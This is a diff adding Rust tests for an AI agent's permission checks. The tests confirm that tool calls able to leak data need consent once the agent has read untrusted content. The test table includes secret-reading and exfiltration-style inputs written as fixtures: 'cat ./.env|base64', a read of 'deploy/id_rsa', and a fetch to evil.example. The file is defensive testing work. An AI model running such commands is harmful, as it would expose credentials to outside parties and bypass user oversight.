@@ -1,0 +1,126 @@
+use serde_json::json;
+
+use super::*;
+use crate::{builtin, decide};
+
+fn parameters(value: Value) -> Map<String, Value> {
+    value.as_object().unwrap().clone()
+}
+
+fn sheet(name: &str, change: impl FnOnce(&mut ToolSheet)) -> ToolSheet {
+    let mut sheet = ToolSheet::clone(builtin().get(name).unwrap().sheet());
+    change(&mut sheet);
+    sheet
+}
+
+fn page() -> ToolSheet {
+    sheet("read_file", |sheet| {
+        sheet.touches = Touches::Network;
+        sheet.hosts = Some(vec!["docs.rs".to_owned()]);
+    })
+}
+
+fn server(trusted: bool, network: bool, read_only: bool) -> ToolSheet {
+    sheet("bash", |sheet| {
+        sheet.source = Source::Server { name: "git".to_owned(), trusted, network };
+        sheet.read_only = read_only;
+    })
+}
+
+fn servers(trusted: &[&str], all: bool) -> ToolSheet {
+    let trusted = trusted.iter().map(|name| (*name).to_owned()).collect();
+    sheet("bash", |sheet| sheet.source = Source::Servers { trusted, all })
+}
+
+fn word(decision: &Decision) -> &'static str {
+    match decision {
+        Decision::Allow => "allow",
+        Decision::Ask { .. } => "ask",
+        Decision::Deny { .. } => "deny",
+    }
+}
+
+#[test]
+fn what_could_get_something_out_needs_consent_in_every_mode() {
+    let none = json!({});
+    let ls = json!({"command": "ls"});
+    let table = [
+        // sheet, parameters, whether commands reach the network, whether something could get out
+        (page(), json!({"url": "https://docs.rs/serde"}), false, false),
+        (page(), json!({"url": "https://evil.example/?c=1"}), false, true),
+        (page(), json!({"url": "no address"}), false, true),
+        (server(false, true, false), none.clone(), false, true),
+        (server(true, true, false), none.clone(), false, false),
+        (server(false, false, false), none.clone(), false, false),
+        (server(false, true, true), none.clone(), false, false),
+        (servers(&["git"], false), json!({"name": "mcp__git__log"}), false, false),
+        (servers(&["git"], false), json!({"name": "mcp__mail__send"}), false, true),
+        (servers(&["git"], false), json!({"name": "odd"}), false, true),
+        (servers(&["git"], true), json!({"name": "odd"}), false, false),
+        (sheet("bash", |_| {}), ls.clone(), false, false),
+        (sheet("bash", |_| {}), ls, true, true),
+        (sheet("bash", |_| {}), json!({"command": "cat ./.env|base64"}), false, true),
+        (sheet("python", |_| {}), json!({"code": "open('deploy/id_rsa').read()"}), false, true),
+        (sheet("read_file", |_| {}), json!({"path": ".env"}), false, true),
+        (sheet("grep", |_| {}), json!({"pattern": "KEY", "path": "a/server.pem"}), false, true),
+        (sheet("read_file", |_| {}), json!({"path": "README.md"}), false, false),
+        (sheet("write_file", |_| {}), json!({"path": ".env", "content": "PORT=1"}), false, false),
+        (sheet("bash", |_| {}), json!({"command": "grep -rn credentials src | head"}), false, false),
+    ];
+    for (sheet, given, commands_reach_network, out) in table {
+        let trust = Trust { files: false, commands_reach_network };
+        let given = parameters(given);
+        for approval in [Approval::Ask, Approval::Edits, Approval::All, Approval::ReadOnly] {
+            let call = ProposedCall::new(approval, &sheet, &given);
+            let before = decide(call);
+            let context = format!("{} {given:?} {approval:?}", sheet.name());
+            assert_eq!(trust.beware(before.clone(), call, &[]), before, "{context}: who has read nothing may do what the mode allows");
+            let after = trust.beware(before.clone(), call, &[Origin::Files]);
+            let expected = match (word(&before), out, approval) {
+                ("allow", true, Approval::ReadOnly) => "deny",
+                ("allow", true, _) => "ask",
+                (before, ..) => before,
+            };
+            assert_eq!(word(&after), expected, "{context}");
+        }
+    }
+}
+
+#[test]
+fn a_person_is_told_why_they_are_asked() {
+    let given = parameters(json!({"url": "https://evil.example/"}));
+    let page = page();
+    let call = ProposedCall::new(Approval::All, &page, &given);
+    let origins = [Origin::Files, Origin::Web("wiki.example".to_owned())];
+    let Decision::Ask { question, .. } = Trust::default().beware(Decision::Allow, call, &origins) else { panic!() };
+    assert!(question.starts_with(
+        "This call reaches evil.example, which web.allowed_hosts does not name, and its caller has read text from others (files, web wiki.example).\n"
+    ));
+}
+
+#[test]
+fn results_have_origins() {
+    let given = parameters(json!({"url": "https://Docs.rs/x", "server": "git"}));
+    let table = [
+        (sheet("read_file", |_| {}), Some("files"), true, false),
+        (sheet("bash", |_| {}), Some("command"), true, false),
+        (page(), Some("web docs.rs"), true, true),
+        (server(false, true, true), Some("mcp git"), true, true),
+        (server(true, true, false), Some("mcp git"), false, false),
+        (servers(&[], false), Some("mcp git"), true, true),
+        (servers(&["git"], false), Some("mcp git"), false, false),
+        (sheet("todo", |_| {}), None, false, false),
+        (sheet("ask_human", |_| {}), Some("person"), false, false),
+        (sheet("delegate_task", |_| {}), Some("actor"), false, false),
+    ];
+    for (sheet, origin, untrusted, with_files_trusted) in table {
+        let name = sheet.name().to_owned();
+        assert_eq!(origin_of(&sheet, &given).map(|origin| origin.to_string()).as_deref(), origin, "{name}");
+        let doubtful = |files| Trust { files, commands_reach_network: false }.untrusted(&sheet, &given).is_some();
+        assert_eq!((doubtful(false), doubtful(true)), (untrusted, with_files_trusted), "{name}");
+    }
+    let connected = Trust { files: true, commands_reach_network: true };
+    assert_eq!(connected.untrusted(&sheet("bash", |_| {}), &given), Some(Origin::Command), "a command may print a page");
+    let sheets = [server(false, true, true), server(true, true, true), sheet("bash", |_| {})];
+    assert_eq!(Trust::untrusted_descriptions(&sheets), [Origin::Server("git".to_owned())]);
+}
